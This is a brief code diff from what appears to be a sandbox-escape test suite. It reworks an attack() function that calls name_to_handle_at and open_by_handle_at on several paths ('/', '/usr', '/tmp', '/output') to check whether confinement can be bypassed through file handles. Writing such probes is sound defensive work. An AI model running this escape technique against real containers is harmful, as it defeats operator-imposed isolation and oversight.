@@ -4,12 +4,15 @@ Threats: E10
 """
 
 
-def attack():
+def opens(path):
     handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
     mount = ctypes.c_int()
-    call("name_to_handle_at", -100, b"/usr", handle, ctypes.byref(mount), 0)
-    descriptor = os.open("/", os.O_RDONLY)
-    return call("open_by_handle_at", descriptor, handle, os.O_RDONLY)
+    call("name_to_handle_at", -100, path.encode(), handle, ctypes.byref(mount), 0)
+    return call("open_by_handle_at", os.open(path, os.O_RDONLY), handle, os.O_RDONLY)
+
+
+def attack():
+    return first(["/", "/usr", "/tmp", "/output"], opens)
 
 
 run(attack)
